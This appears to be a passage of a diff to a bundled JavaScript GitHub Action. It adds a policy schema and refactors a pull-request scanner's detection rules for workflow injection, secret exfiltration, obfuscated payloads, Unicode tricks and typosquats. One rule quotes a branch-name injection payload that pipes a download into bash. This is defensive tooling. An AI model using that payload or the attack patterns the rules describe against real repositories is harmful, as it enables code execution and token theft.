+const verify_deps_config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","title":"The \'verify-deps\' section of .github/security-actions.yml","description":"Settings of verify-deps (docs/verify-deps.md): its policy; a file named by its `policy` input takes the same keys.","type":"object","additionalProperties":false,"properties":{"provenance":{"description":"Provenance mode for this repository; the stricter of this and the action input applies.","enum":["require","warn","off"]},"publishers":{"description":"Expected Trusted Publisher per package (PEP 503 name): one or a list.","type":"object","additionalProperties":{"anyOf":[{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}},{"type":"array","items":{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}}}]}},"allow-tags":{"description":"Owners whose actions may be pinned to a tag, reported at a lower severity.","type":"array","items":{"anyOf":[{"type":"string"},{"type":"object","additionalProperties":false,"required":["owner"],"properties":{"owner":{"type":"string"},"severity":{"enum":["info","low","medium","high","critical"]}}}]}},"ignore":{"description":"Advisories, rules or packages to suppress, each with a reason and an optional expiry (YYYY-MM-DD).","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["id"]},{"required":["rule"]},{"required":["package"]}],"properties":{"id":{"type":"string"},"rule":{"type":"string"},"package":{"type":"string"},"reason":{"type":"string","minLength":5},"expires":{"type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"cooldown-days":{"description":"Minimum age in days of a locked release (0: off).","type":"integer","minimum":0},"typosquat-allow":{"description":"Direct dependencies never reported as typosquats.","type":"array","items":{"type":"string"}}}}');
 ;// CONCATENATED MODULE: ./actions/verify-deps/src/main.ts
 // verify-deps adapter: read inputs, collect the files, build the clients,
 // call the engine.
+
+
 
 
 
@@ -22694,6 +22809,8 @@ async function loadPolicy(ctx, root, path) {
 }
 const definition = {
     name: 'verify-deps',
+    rules: REGISTRY,
+    configSchema: verify_deps_config_schema_namespaceObject,
     // offline is itself the opt-out of the network checks: listing them as not checked must not fail the step.
     failOnNotChecked: (ctx) => !ctx.inputs.boolean('offline', false) && ctx.inputs.boolean('fail-on-not-checked', true),
     async run(ctx) {
@@ -23299,6 +23416,9 @@ async function readFileAt(repo, commit, path) {
 }
 
 ;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/rules.ts
+// Rules of pr-anomaly-scan. Ids are stable: configs, inline ignores and
+// code-scanning alerts refer to them. `family` groups them for the risk score.
+
 const XZ = {
     title: 'xz-utils backdoor (CVE-2024-3094)',
     url: 'https://www.openwall.com/lists/oss-security/2024/03/29/4'
@@ -23317,433 +23437,388 @@ const PYTORCH = {
     title: 'PyTorch self-hosted runner compromise (2024)',
     url: 'https://johnstawinski.com/2024/01/11/playing-with-fire-how-we-executed-a-critical-supply-chain-attack-on-pytorch/'
 };
-function rule(family, r) {
-    return { family, ...r, id: `${family}/${r.id}` };
-}
 // --- workflows ---------------------------------------------------------------
-const WF_DANGEROUS_TRIGGER = rule('workflow', {
-    id: 'dangerous-trigger',
-    title: 'pull_request_target / workflow_run workflow that uses PR code',
-    severity: 'critical',
-    why: "These triggers run with the base repository's secrets and a write token. Checking out or running the PR head there lets anyone who opens a PR run code with those privileges (the PyTorch and Ultralytics compromises).",
-    remediation: 'Use `on: pull_request` for anything that builds or tests PR code; keep `pull_request_target` for labelling or commenting without checking out the head.',
-    spec: ['S8-16', 'S8-6'],
-    references: [ULTRALYTICS, PYTORCH]
+const rules_RULES = defineRules({
+    WF_DANGEROUS_TRIGGER: {
+        id: 'workflow/dangerous-trigger',
+        title: 'pull_request_target / workflow_run workflow that uses PR code',
+        severity: 'critical',
+        why: "These triggers run with the base repository's secrets and a write token. Checking out or running the PR head there lets anyone who opens a PR run code with those privileges (the PyTorch and Ultralytics compromises).",
+        remediation: 'Use `on: pull_request` for anything that builds or tests PR code; keep `pull_request_target` for labelling or commenting without checking out the head.',
+        spec: ['S8-16', 'S8-6'],
+        references: [ULTRALYTICS, PYTORCH]
+    },
+    WF_TEMPLATE_INJECTION: {
+        id: 'workflow/template-injection',
+        title: 'Attacker-controlled expression expanded into a script',
+        severity: 'high',
+        why: '`${{ }}` is pasted into the script before the shell runs it, so a PR title, branch name or comment containing `$(...)` runs as code (Ultralytics).',
+        remediation: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use `"$TITLE"` in the script.',
+        spec: ['S8-16'],
+        references: [ULTRALYTICS]
+    },
+    WF_SECRETS_EXFIL: {
+        id: 'workflow/secrets-to-outside-host',
+        title: 'Workflow sends secrets to an outside host',
+        severity: 'critical',
+        why: 'A step that uses secrets and talks to a host other than GitHub or the package index is how GhostAction and Shai-Hulud stole tokens.',
+        remediation: "Remove the step; if a secret must reach a service, use that service's official action pinned by SHA, or OIDC.",
+        spec: ['S6-7', 'S8-16'],
+        references: [GHOST]
+    },
+    WF_TOJSON_SECRETS: {
+        id: 'workflow/all-secrets',
+        title: '`toJSON(secrets)` or `secrets: inherit` exposes every secret',
+        severity: 'high',
+        why: 'Serialising the whole secrets context hands every repository and organisation secret to one step.',
+        remediation: 'Pass only the named secrets the step needs.',
+        spec: ['S6-7', 'S6-4'],
+        references: [GHOST]
+    },
+    WF_SELF_HOSTED: {
+        id: 'workflow/self-hosted-pr',
+        title: 'Self-hosted runner reachable from pull requests',
+        severity: 'high',
+        why: 'Anyone who opens a PR can run code on a self-hosted runner triggered by PR events and persist on it (PyTorch).',
+        remediation: 'Run PR jobs on GitHub-hosted runners, or use ephemeral runners with approval required for outside contributors.',
+        spec: ['S8-16'],
+        references: [PYTORCH]
+    },
+    WF_UNPINNED: {
+        id: 'workflow/unpinned-uses',
+        title: 'New action reference not pinned to a commit SHA',
+        severity: 'medium',
+        why: 'A tag can be moved to new code by whoever controls the action (tj-actions).',
+        remediation: 'Pin the action to the full commit SHA with the version as a comment.',
+        spec: ['S8-9'],
+        references: [TJ]
+    },
+    WF_PERMISSIONS: {
+        id: 'workflow/write-permissions',
+        title: 'New write permissions for the workflow token',
+        severity: 'medium',
+        why: 'A broader token turns any code-execution bug in the workflow into repository write access. Medium for `write-all`, for a write to code, releases, packages, PRs or the OIDC identity at the workflow level (every job gets it), and for such a write in a workflow that runs on `pull_request_target`, `workflow_run`, `issues`, `issue_comment` or discussion events (anyone can start it); low for a scope granted to the one job that needs it, which a reviewer confirms.',
+        remediation: 'Default to `permissions: contents: read` and grant writes only to the job that needs them.',
+        spec: ['S8-6']
+    },
+    WF_UNTRUSTED_TRIGGER: {
+        id: 'workflow/untrusted-trigger',
+        title: 'New trigger on comments or discussions',
+        severity: 'medium',
+        why: "Anyone can open a discussion or comment; workflows on these events run with the repository's privileges and are a common command-and-control channel (Shai-Hulud).",
+        remediation: 'Check `author_association` before acting on the event and never interpolate its body into scripts.',
+        spec: ['S8-16'],
+        references: [GHOST]
+    },
+    WF_RUNNER_REGISTRATION: {
+        id: 'workflow/runner-registration',
+        title: 'Workflow registers a self-hosted runner',
+        severity: 'critical',
+        why: 'Registering a runner from a workflow is how an attacker plants a persistent backdoor runner (Shai-Hulud).',
+        remediation: 'Remove the step; register runners by hand from a trusted machine.',
+        spec: ['S8-16'],
+        references: [GHOST]
+    },
+    // --- build system ------------------------------------------------------------
+    BUILD_SETUP_PY: {
+        id: 'build/setup-py',
+        title: 'setup.py gains install-time code (cmdclass, network, processes)',
+        severity: 'high',
+        why: "`setup.py` runs on every source install and build; a custom command, download or process start there runs on maintainers' and users' machines.",
+        remediation: 'Move build logic to a declarative `pyproject.toml`; review any network or process call line by line.',
+        spec: ['S8-16']
+    },
+    BUILD_BACKEND: {
+        id: 'build/build-backend',
+        title: 'Build backend changed',
+        severity: 'high',
+        why: '`[build-system]` decides which code builds the package; `backend-path` points it at code inside the repository.',
+        remediation: 'Confirm the backend is a known package at a pinned version; reject `backend-path` unless the in-tree backend was reviewed.',
+        spec: ['S8-16']
+    },
+    BUILD_NATIVE: {
+        id: 'build/native-build-script',
+        title: 'Meson or CMake script runs commands or downloads',
+        severity: 'medium',
+        why: '`run_command`, `custom_target`, `execute_process` and `file(DOWNLOAD)` run at configure time on every build machine.',
+        remediation: 'Review the command and what it reads; prefer vendored, hashed inputs over downloads.',
+        spec: ['S8-16'],
+        references: [XZ]
+    },
+    BUILD_AUTOTOOLS: {
+        id: 'build/autotools',
+        title: 'Autotools or m4 macro changed',
+        severity: 'high',
+        why: 'The xz backdoor was triggered by an edited `build-to-host.m4`; m4 is rarely reviewed and runs shell at configure time.',
+        remediation: 'Compare the macro with its upstream (gnulib, autoconf-archive) and reject unexplained changes.',
+        spec: ['S8-16'],
+        references: [XZ]
+    },
+    BUILD_TEST_HOOK: {
+        id: 'build/test-runner-hook',
+        title: 'Test or task runner configuration runs processes or downloads',
+        severity: 'medium',
+        why: '`conftest.py`, `noxfile.py` and `tox.ini` run on every test run, often in CI with secrets.',
+        remediation: 'Review the added command; keep network and process calls out of test configuration.',
+        spec: ['S8-16']
+    },
+    BUILD_PRECOMMIT_LOCAL: {
+        id: 'build/pre-commit-local',
+        title: 'Local pre-commit hook added',
+        severity: 'medium',
+        why: "A `repo: local` hook runs an arbitrary command on every contributor's machine and in CI.",
+        remediation: 'Prefer hooks from pinned upstream repositories; review the entry command.',
+        spec: ['S8-16']
+    },
+    BUILD_PTH: {
+        id: 'build/pth-file',
+        title: '`.pth` file added',
+        severity: 'high',
+        why: 'Lines starting with `import` in a `.pth` file run at every Python start-up once installed.',
+        remediation: 'Remove the file unless it only lists paths.',
+        spec: ['S8-16']
+    },
+    BUILD_IMPORT_PROCESS: {
+        id: 'build/import-time-process',
+        title: 'Process or thread started at import time',
+        severity: 'medium',
+        why: 'Module-level process starts run as soon as the package is imported, including in tests and by users (lightning 2026).',
+        remediation: 'Move the call into a function called explicitly.',
+        spec: ['S8-16']
+    },
+    // --- opaque content ----------------------------------------------------------
+    BIN_OPAQUE: {
+        id: 'binary/opaque-file',
+        title: 'Opaque binary file added or changed',
+        severity: 'medium',
+        why: 'Reviewers cannot read binaries; the xz backdoor payload hid in "corrupt" test files.',
+        remediation: 'Ask for the script that generates the file, regenerate it, and compare hashes.',
+        spec: ['S8-16'],
+        references: [XZ],
+        pathIgnorable: false
+    },
+    BIN_EXECUTABLE: {
+        id: 'binary/executable',
+        title: 'Executable or loadable binary added',
+        severity: 'high',
+        why: 'A compiled executable, shared library or pickle runs code when loaded, and cannot be reviewed.',
+        remediation: 'Build it from source in CI instead; replace pickles with a data format (NPY, HDF5, JSON).',
+        spec: ['S8-16'],
+        pathIgnorable: false
+    },
+    BIN_ARCHIVE_TESTS: {
+        id: 'binary/compressed-test-data',
+        title: 'Compressed archive or blob under tests',
+        severity: 'medium',
+        why: "Compressed test fixtures can carry anything; xz's payload was in `tests/files/*.xz`.",
+        remediation: 'Ask how the fixture was generated and regenerate it yourself.',
+        spec: ['S8-16'],
+        references: [XZ],
+        pathIgnorable: false
+    },
+    BIN_ONLY: {
+        id: 'binary/binary-only-change',
+        title: 'Binary files changed with no text change',
+        severity: 'high',
+        why: 'Replacing test fixtures without touching any code or test is how the xz payload was updated (5.6.1).',
+        remediation: 'Require the generator script and a reason in the PR; regenerate the files.',
+        spec: ['S8-16'],
+        references: [XZ],
+        pathIgnorable: false
+    },
+    // --- obfuscation ---------------------------------------------------------------
+    OBF_ENCODED_EXEC: {
+        id: 'obfuscation/encoded-exec',
+        title: 'Encoded data reaches code execution',
+        severity: 'critical',
+        why: 'Decoding a literal and passing it to exec/eval/a shell hides the code from reviewers; almost no honest code does this.',
+        remediation: 'Decode the literal yourself and read it; reject the change unless the plain code is committed instead.',
+        spec: ['S8-16'],
+        references: [TJ],
+        pathIgnorable: false
+    },
+    OBF_LONG_LITERAL: {
+        id: 'obfuscation/long-encoded-literal',
+        title: 'Long base64 or hex literal added',
+        severity: 'low',
+        why: 'Long encoded blobs are where payloads hide; on their own they are weak evidence (images, test vectors).',
+        remediation: 'Check what the data decodes to and where it is used.',
+        spec: ['S8-16'],
+        pathIgnorable: false
+    },
+    OBF_DECOMPRESS: {
+        id: 'obfuscation/decompress-literal',
+        title: 'Literal decompressed or unmarshalled in code',
+        severity: 'high',
+        why: '`marshal.loads`, `zlib`/`lzma`/`bz2` decompression of inline data produces code or data no reviewer saw.',
+        remediation: 'Commit the plain content instead.',
+        spec: ['S8-16'],
+        pathIgnorable: false
+    },
+    OBF_CHR_CHAIN: {
+        id: 'obfuscation/char-code-chain',
+        title: 'String built from character codes',
+        severity: 'medium',
+        why: '`chr(..)+chr(..)` and `String.fromCharCode(...)` chains hide names like `exec` or URLs from search and review.',
+        remediation: 'Replace with the plain string and check what it was.',
+        spec: ['S8-16'],
+        pathIgnorable: false
+    },
+    OBF_PACKER: {
+        id: 'obfuscation/packer',
+        title: 'Packed or obfuscated code',
+        severity: 'high',
+        why: 'PyArmor runtimes, JavaScript packers and obfuscator output exist to stop people reading code.',
+        remediation: 'Reject packed code; ask for the source.',
+        spec: ['S8-16'],
+        pathIgnorable: false
+    },
+    OBF_BUNDLE: {
+        id: 'obfuscation/bundled-js-payload',
+        title: 'Payload added to bundled JavaScript',
+        severity: 'high',
+        why: 'Bundled `dist/` files are generated and rarely reviewed; tj-actions was compromised by a base64 payload added to `dist/index.js`.',
+        remediation: 'Rebuild the bundle from source in CI and compare; reject hand edits of generated files.',
+        spec: ['S8-16'],
+        references: [TJ],
+        pathIgnorable: false
+    },
+    // --- Unicode ---------------------------------------------------------------------
+    UNI_BIDI: {
+        id: 'unicode/bidi-control',
+        title: 'Bidirectional control character',
+        severity: 'high',
+        why: 'Bidi controls make code display in a different order from how it runs (Trojan Source).',
+        remediation: 'Remove the character; GitHub shows a warning banner on such files.',
+        spec: ['S8-16'],
+        references: [TROJAN],
+        pathIgnorable: false
+    },
+    UNI_INVISIBLE: {
+        id: 'unicode/invisible-character',
+        title: 'Invisible character in code',
+        severity: 'high',
+        why: 'Zero-width characters, variation selectors and blank look-alikes hide identifiers or whole payloads (GlassWorm).',
+        remediation: 'Remove the character or write it as an escape (`\\u200b`).',
+        spec: ['S8-16'],
+        references: [TROJAN],
+        pathIgnorable: false
+    },
+    UNI_HOMOGLYPH: {
+        id: 'unicode/homoglyph',
+        title: 'Look-alike letters from another script',
+        severity: 'high',
+        why: 'A Cyrillic `а` or Greek `ο` in a Latin identifier or string makes two different names look the same (Trojan Source homoglyph attack).',
+        remediation: 'Replace the look-alike with the Latin letter, or use an escape if the foreign letter is intended.',
+        spec: ['S8-16'],
+        references: [TROJAN],
+        pathIgnorable: false
+    },
+    // --- dependencies -----------------------------------------------------------------
+    DEP_NEW: {
+        id: 'deps/new-dependency',
+        title: 'New dependency',
+        severity: 'info',
+        why: "Each new dependency is code that runs in your users' environments.",
+        remediation: 'Check the project is maintained and the name is the one intended.',
+        spec: ['S8-16']
+    },
+    DEP_TYPOSQUAT: {
+        id: 'deps/typosquat',
+        title: 'Dependency name close to a popular package',
+        severity: 'high',
+        why: 'Typosquatted names are a common way malware reaches Python environments.',
+        remediation: 'Use the exact name of the intended package.',
+        spec: ['S8-16']
+    },
+    DEP_DIRECT_URL: {
+        id: 'deps/direct-url',
+        title: 'Direct URL or VCS dependency',
+        severity: 'medium',
+        why: 'A URL or git dependency bypasses the index and can change under the same name.',
+        remediation: 'Depend on a released version from PyPI, or pin the commit and hash.',
+        spec: ['S8-16']
+    },
+    DEP_INDEX_URL: {
+        id: 'deps/index-url',
+        title: 'New package index',
+        severity: 'high',
+        why: 'An extra or replaced index lets another server supply any package (dependency confusion).',
+        remediation: 'Remove the index option unless it is an index you run.',
+        spec: ['S8-16']
+    },
+    // --- metadata -----------------------------------------------------------------------
+    META_REF_INJECTION: {
+        id: 'meta/branch-name-shell',
+        title: 'Shell syntax in the branch name',
+        severity: 'high',
+        why: 'A branch name such as `$({curl,-sSfL,x}${IFS}|${IFS}bash)` runs when a workflow interpolates it (Ultralytics).',
+        remediation: 'Do not run workflows that interpolate `head_ref` on this PR; close it and audit your workflows for template injection.',
+        spec: ['S8-16'],
+        references: [ULTRALYTICS]
+    },
+    META_EMPTY_NEW: {
+        id: 'meta/empty-pr-new-account',
+        title: 'Near-empty PR from a new account',
+        severity: 'medium',
+        why: 'Empty PRs from fresh accounts are used to trigger `pull_request_target` workflows or to probe CI.',
+        remediation: 'Do not approve workflow runs for this PR until you know why it exists.',
+        spec: ['S8-16']
+    },
+    META_BOT_IDENTITY: {
+        id: 'meta/unverified-bot-identity',
+        title: 'Commit claims a bot identity without verification',
+        severity: 'high',
+        why: "Anyone can set their git author to `github-actions[bot]`; tj-actions' malicious commit posed as Renovate.",
+        remediation: 'Only trust bot commits that GitHub shows as Verified; ask the author to re-commit under their own identity.',
+        spec: ['S8-4'],
+        references: [TJ]
+    },
+    META_GOVERNANCE: {
+        id: 'meta/governance-edit',
+        title: 'CODEOWNERS, CI or scanner configuration changed',
+        severity: 'medium',
+        why: 'These files decide who must review and what runs in CI; changing them can remove the next line of defence.',
+        remediation: 'Have a maintainer who owns CI review the change.',
+        spec: ['S6-1', 'S8-5']
+    },
+    META_NEW_AUTHOR: {
+        id: 'meta/new-author-sensitive-paths',
+        title: 'First-time contributor changes sensitive files',
+        severity: 'medium',
+        why: 'Build files, workflows and binaries from an author without history deserve the closest review (PyTorch, xz).',
+        remediation: 'Review these files line by line before approving workflow runs.',
+        spec: ['S8-16']
+    },
+    META_AUTORUN: {
+        id: 'meta/ide-autorun',
+        title: 'File that makes an IDE or agent run code',
+        severity: 'high',
+        why: '`.vscode/tasks.json` with `folderOpen`, devcontainer lifecycle commands and agent hooks run as soon as a maintainer opens the checkout (Shai-Hulud).',
+        remediation: 'Remove the auto-run entry; never open untrusted checkouts in trusted mode.',
+        spec: ['S8-16'],
+        references: [GHOST]
+    },
+    META_SUPPRESSION: {
+        id: 'meta/suppression-added',
+        title: 'PR adds an inline suppression',
+        severity: 'medium',
+        why: 'An ignore comment added by the PR itself hides a finding from this scan; reviewers must agree with it.',
+        remediation: 'Confirm the reason; the suppressed finding is listed in the report.',
+        spec: ['S8-16']
+    },
+    // --- secrets ---------------------------------------------------------------------------
+    SECRET: {
+        id: 'secrets/credential',
+        title: 'Credential added',
+        severity: 'critical',
+        why: 'A committed credential is public as soon as the PR is pushed.',
+        remediation: 'Revoke the credential now, then remove it from the branch.',
+        spec: ['S6-7', 'S6-5'],
+        pathIgnorable: false
+    }
 });
-const WF_TEMPLATE_INJECTION = rule('workflow', {
-    id: 'template-injection',
-    title: 'Attacker-controlled expression expanded into a script',
-    severity: 'high',
-    why: '`${{ }}` is pasted into the script before the shell runs it, so a PR title, branch name or comment containing `$(...)` runs as code (Ultralytics).',
-    remediation: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use `"$TITLE"` in the script.',
-    spec: ['S8-16'],
-    references: [ULTRALYTICS]
-});
-const WF_SECRETS_EXFIL = rule('workflow', {
-    id: 'secrets-to-outside-host',
-    title: 'Workflow sends secrets to an outside host',
-    severity: 'critical',
-    why: 'A step that uses secrets and talks to a host other than GitHub or the package index is how GhostAction and Shai-Hulud stole tokens.',
-    remediation: "Remove the step; if a secret must reach a service, use that service's official action pinned by SHA, or OIDC.",
-    spec: ['S6-7', 'S8-16'],
-    references: [GHOST]
-});
-const WF_TOJSON_SECRETS = rule('workflow', {
-    id: 'all-secrets',
-    title: '`toJSON(secrets)` or `secrets: inherit` exposes every secret',
-    severity: 'high',
-    why: 'Serialising the whole secrets context hands every repository and organisation secret to one step.',
-    remediation: 'Pass only the named secrets the step needs.',
-    spec: ['S6-7', 'S6-4'],
-    references: [GHOST]
-});
-const WF_SELF_HOSTED = rule('workflow', {
-    id: 'self-hosted-pr',
-    title: 'Self-hosted runner reachable from pull requests',
-    severity: 'high',
-    why: 'Anyone who opens a PR can run code on a self-hosted runner triggered by PR events and persist on it (PyTorch).',
-    remediation: 'Run PR jobs on GitHub-hosted runners, or use ephemeral runners with approval required for outside contributors.',
-    spec: ['S8-16'],
-    references: [PYTORCH]
-});
-const WF_UNPINNED = rule('workflow', {
-    id: 'unpinned-uses',
-    title: 'New action reference not pinned to a commit SHA',
-    severity: 'medium',
-    why: 'A tag can be moved to new code by whoever controls the action (tj-actions).',
-    remediation: 'Pin the action to the full commit SHA with the version as a comment.',
-    spec: ['S8-9'],
-    references: [TJ]
-});
-const WF_PERMISSIONS = rule('workflow', {
-    id: 'write-permissions',
-    title: 'New write permissions for the workflow token',
-    severity: 'medium',
-    why: 'A broader token turns any code-execution bug in the workflow into repository write access. Medium for `write-all`, for a write to code, releases, packages, PRs or the OIDC identity at the workflow level (every job gets it), and for such a write in a workflow that runs on `pull_request_target`, `workflow_run`, `issues`, `issue_comment` or discussion events (anyone can start it); low for a scope granted to the one job that needs it, which a reviewer confirms.',
-    remediation: 'Default to `permissions: contents: read` and grant writes only to the job that needs them.',
-    spec: ['S8-6']
-});
-const WF_UNTRUSTED_TRIGGER = rule('workflow', {
-    id: 'untrusted-trigger',
-    title: 'New trigger on comments or discussions',
-    severity: 'medium',
-    why: "Anyone can open a discussion or comment; workflows on these events run with the repository's privileges and are a common command-and-control channel (Shai-Hulud).",
-    remediation: 'Check `author_association` before acting on the event and never interpolate its body into scripts.',
-    spec: ['S8-16'],
-    references: [GHOST]
-});
-const WF_RUNNER_REGISTRATION = rule('workflow', {
-    id: 'runner-registration',
-    title: 'Workflow registers a self-hosted runner',
-    severity: 'critical',
-    why: 'Registering a runner from a workflow is how an attacker plants a persistent backdoor runner (Shai-Hulud).',
-    remediation: 'Remove the step; register runners by hand from a trusted machine.',
-    spec: ['S8-16'],
-    references: [GHOST]
-});
-// --- build system ------------------------------------------------------------
-const BUILD_SETUP_PY = rule('build', {
-    id: 'setup-py',
-    title: 'setup.py gains install-time code (cmdclass, network, processes)',
-    severity: 'high',
-    why: "`setup.py` runs on every source install and build; a custom command, download or process start there runs on maintainers' and users' machines.",
-    remediation: 'Move build logic to a declarative `pyproject.toml`; review any network or process call line by line.',
-    spec: ['S8-16']
-});
-const BUILD_BACKEND = rule('build', {
-    id: 'build-backend',
-    title: 'Build backend changed',
-    severity: 'high',
-    why: '`[build-system]` decides which code builds the package; `backend-path` points it at code inside the repository.',
-    remediation: 'Confirm the backend is a known package at a pinned version; reject `backend-path` unless the in-tree backend was reviewed.',
-    spec: ['S8-16']
-});
-const BUILD_NATIVE = rule('build', {
-    id: 'native-build-script',
-    title: 'Meson or CMake script runs commands or downloads',
-    severity: 'medium',
-    why: '`run_command`, `custom_target`, `execute_process` and `file(DOWNLOAD)` run at configure time on every build machine.',
-    remediation: 'Review the command and what it reads; prefer vendored, hashed inputs over downloads.',
-    spec: ['S8-16'],
-    references: [XZ]
-});
-const BUILD_AUTOTOOLS = rule('build', {
-    id: 'autotools',
-    title: 'Autotools or m4 macro changed',
-    severity: 'high',
-    why: 'The xz backdoor was triggered by an edited `build-to-host.m4`; m4 is rarely reviewed and runs shell at configure time.',
-    remediation: 'Compare the macro with its upstream (gnulib, autoconf-archive) and reject unexplained changes.',
-    spec: ['S8-16'],
-    references: [XZ]
-});
-const BUILD_TEST_HOOK = rule('build', {
-    id: 'test-runner-hook',
-    title: 'Test or task runner configuration runs processes or downloads',
-    severity: 'medium',
-    why: '`conftest.py`, `noxfile.py` and `tox.ini` run on every test run, often in CI with secrets.',
-    remediation: 'Review the added command; keep network and process calls out of test configuration.',
-    spec: ['S8-16']
-});
-const BUILD_PRECOMMIT_LOCAL = rule('build', {
-    id: 'pre-commit-local',
-    title: 'Local pre-commit hook added',
-    severity: 'medium',
-    why: "A `repo: local` hook runs an arbitrary command on every contributor's machine and in CI.",
-    remediation: 'Prefer hooks from pinned upstream repositories; review the entry command.',
-    spec: ['S8-16']
-});
-const BUILD_PTH = rule('build', {
-    id: 'pth-file',
-    title: '`.pth` file added',
-    severity: 'high',
-    why: 'Lines starting with `import` in a `.pth` file run at every Python start-up once installed.',
-    remediation: 'Remove the file unless it only lists paths.',
-    spec: ['S8-16']
-});
-const BUILD_IMPORT_PROCESS = rule('build', {
-    id: 'import-time-process',
-    title: 'Process or thread started at import time',
-    severity: 'medium',
-    why: 'Module-level process starts run as soon as the package is imported, including in tests and by users (lightning 2026).',
-    remediation: 'Move the call into a function called explicitly.',
-    spec: ['S8-16']
-});
-// --- opaque content ----------------------------------------------------------
-const BIN_OPAQUE = rule('binary', {
-    id: 'opaque-file',
-    title: 'Opaque binary file added or changed',
-    severity: 'medium',
-    why: 'Reviewers cannot read binaries; the xz backdoor payload hid in "corrupt" test files.',
-    remediation: 'Ask for the script that generates the file, regenerate it, and compare hashes.',
-    spec: ['S8-16'],
-    references: [XZ],
-    pathIgnorable: false
-});
-const BIN_EXECUTABLE = rule('binary', {
-    id: 'executable',
-    title: 'Executable or loadable binary added',
-    severity: 'high',
-    why: 'A compiled executable, shared library or pickle runs code when loaded, and cannot be reviewed.',
-    remediation: 'Build it from source in CI instead; replace pickles with a data format (NPY, HDF5, JSON).',
-    spec: ['S8-16'],
-    pathIgnorable: false
-});
-const BIN_ARCHIVE_TESTS = rule('binary', {
-    id: 'compressed-test-data',
-    title: 'Compressed archive or blob under tests',
-    severity: 'medium',
-    why: "Compressed test fixtures can carry anything; xz's payload was in `tests/files/*.xz`.",
-    remediation: 'Ask how the fixture was generated and regenerate it yourself.',
-    spec: ['S8-16'],
-    references: [XZ],
-    pathIgnorable: false
-});
-const BIN_ONLY = rule('binary', {
-    id: 'binary-only-change',
-    title: 'Binary files changed with no text change',
-    severity: 'high',
-    why: 'Replacing test fixtures without touching any code or test is how the xz payload was updated (5.6.1).',
-    remediation: 'Require the generator script and a reason in the PR; regenerate the files.',
-    spec: ['S8-16'],
-    references: [XZ],
-    pathIgnorable: false
-});
-// --- obfuscation ---------------------------------------------------------------
-const OBF_ENCODED_EXEC = rule('obfuscation', {
-    id: 'encoded-exec',
-    title: 'Encoded data reaches code execution',
-    severity: 'critical',
-    why: 'Decoding a literal and passing it to exec/eval/a shell hides the code from reviewers; almost no honest code does this.',
-    remediation: 'Decode the literal yourself and read it; reject the change unless the plain code is committed instead.',
-    spec: ['S8-16'],
-    references: [TJ],
-    pathIgnorable: false
-});
-const OBF_LONG_LITERAL = rule('obfuscation', {
-    id: 'long-encoded-literal',
-    title: 'Long base64 or hex literal added',
-    severity: 'low',
-    why: 'Long encoded blobs are where payloads hide; on their own they are weak evidence (images, test vectors).',
-    remediation: 'Check what the data decodes to and where it is used.',
-    spec: ['S8-16'],
-    pathIgnorable: false
-});
-const OBF_DECOMPRESS = rule('obfuscation', {
-    id: 'decompress-literal',
-    title: 'Literal decompressed or unmarshalled in code',
-    severity: 'high',
-    why: '`marshal.loads`, `zlib`/`lzma`/`bz2` decompression of inline data produces code or data no reviewer saw.',
-    remediation: 'Commit the plain content instead.',
-    spec: ['S8-16'],
-    pathIgnorable: false
-});
-const OBF_CHR_CHAIN = rule('obfuscation', {
-    id: 'char-code-chain',
-    title: 'String built from character codes',
-    severity: 'medium',
-    why: '`chr(..)+chr(..)` and `String.fromCharCode(...)` chains hide names like `exec` or URLs from search and review.',
-    remediation: 'Replace with the plain string and check what it was.',
-    spec: ['S8-16'],
-    pathIgnorable: false
-});
-const OBF_PACKER = rule('obfuscation', {
-    id: 'packer',
-    title: 'Packed or obfuscated code',
-    severity: 'high',
-    why: 'PyArmor runtimes, JavaScript packers and obfuscator output exist to stop people reading code.',
-    remediation: 'Reject packed code; ask for the source.',
-    spec: ['S8-16'],
-    pathIgnorable: false
-});
-const OBF_BUNDLE = rule('obfuscation', {
-    id: 'bundled-js-payload',
-    title: 'Payload added to bundled JavaScript',
-    severity: 'high',
-    why: 'Bundled `dist/` files are generated and rarely reviewed; tj-actions was compromised by a base64 payload added to `dist/index.js`.',
-    remediation: 'Rebuild the bundle from source in CI and compare; reject hand edits of generated files.',
-    spec: ['S8-16'],
-    references: [TJ],
-    pathIgnorable: false
-});
-// --- Unicode ---------------------------------------------------------------------
-const UNI_BIDI = rule('unicode', {
-    id: 'bidi-control',
-    title: 'Bidirectional control character',
-    severity: 'high',
-    why: 'Bidi controls make code display in a different order from how it runs (Trojan Source).',
-    remediation: 'Remove the character; GitHub shows a warning banner on such files.',
-    spec: ['S8-16'],
-    references: [TROJAN],
-    pathIgnorable: false
-});
-const UNI_INVISIBLE = rule('unicode', {
-    id: 'invisible-character',
-    title: 'Invisible character in code',
-    severity: 'high',
-    why: 'Zero-width characters, variation selectors and blank look-alikes hide identifiers or whole payloads (GlassWorm).',
-    remediation: 'Remove the character or write it as an escape (`\\u200b`).',
-    spec: ['S8-16'],
-    references: [TROJAN],
-    pathIgnorable: false
-});
-const UNI_HOMOGLYPH = rule('unicode', {
-    id: 'homoglyph',
-    title: 'Look-alike letters from another script',
-    severity: 'high',
-    why: 'A Cyrillic `а` or Greek `ο` in a Latin identifier or string makes two different names look the same (Trojan Source homoglyph attack).',
-    remediation: 'Replace the look-alike with the Latin letter, or use an escape if the foreign letter is intended.',
-    spec: ['S8-16'],
-    references: [TROJAN],
-    pathIgnorable: false
-});
-// --- dependencies -----------------------------------------------------------------
-const DEP_NEW = rule('deps', {
-    id: 'new-dependency',
-    title: 'New dependency',
-    severity: 'info',
-    why: "Each new dependency is code that runs in your users' environments.",
-    remediation: 'Check the project is maintained and the name is the one intended.',
-    spec: ['S8-16']
-});
-const DEP_TYPOSQUAT = rule('deps', {
-    id: 'typosquat',
-    title: 'Dependency name close to a popular package',
-    severity: 'high',
-    why: 'Typosquatted names are a common way malware reaches Python environments.',
